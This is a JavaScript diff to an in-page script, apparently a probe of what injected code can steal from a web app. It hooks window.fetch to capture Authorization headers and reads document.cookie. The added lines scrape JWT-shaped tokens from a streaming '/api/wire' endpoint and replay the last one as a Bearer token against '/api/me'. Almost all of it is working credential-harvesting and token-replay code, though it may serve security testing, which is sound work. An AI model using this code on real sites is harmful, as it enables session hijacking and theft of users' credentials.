@@ -43,6 +43,8 @@
   const overheard = new Promise(resolve => {
     window.setTimeout(() => resolve(null), 3000)
     window.fetch = (input, init) => {
+      // The page goes on watching its wire meanwhile; what it sends as the person is what is waited for.
+      if (input === '/api/wire') return untouched(input, init)
       window.fetch = untouched
       const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined))
       const authorization = headers.get('authorization')
@@ -69,5 +71,26 @@
   const { access_token: fresh } = await send('refreshed', 'POST /api/token/refresh', { 'Auth-Mode': 'token' })
   if (fresh) await send('refreshed', 'GET /api/me', { 'Auth-Mode': 'token', Authorization: `Bearer ${fresh}` })
 
-  tell({ type: 'done', report: { found, cookies: document.cookie, requests, overheard: heard } })
+  // What this browser does is told on the wire, to whatever asks from this origin: it listens for a moment.
+  async function listenToWire() {
+    let text = ''
+    const signal = AbortSignal.timeout(1500)
+    const response = await untouched('/api/wire', { cache: 'no-store', signal }).catch(() => null)
+    requests.push({ by: 'listened', line: 'GET /api/wire', status: response?.status ?? 0, name: null })
+    const decoder = new TextDecoder()
+    const reader = response?.body?.getReader()
+    try {
+      for (let read = await reader?.read(); read && !read.done; read = await reader.read())
+        text += decoder.decode(read.value, { stream: true })
+    } catch {
+      // The moment is over.
+    }
+    return [...new Set(text.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? [])]
+  }
+
+  const told = await listenToWire()
+  const last = told.at(-1)
+  if (last) await send('wire', 'GET /api/me', { 'Auth-Mode': 'token', Authorization: `Bearer ${last}` })
+
+  tell({ type: 'done', report: { found, cookies: document.cookie, requests, overheard: heard, onWire: told.length } })
 })()
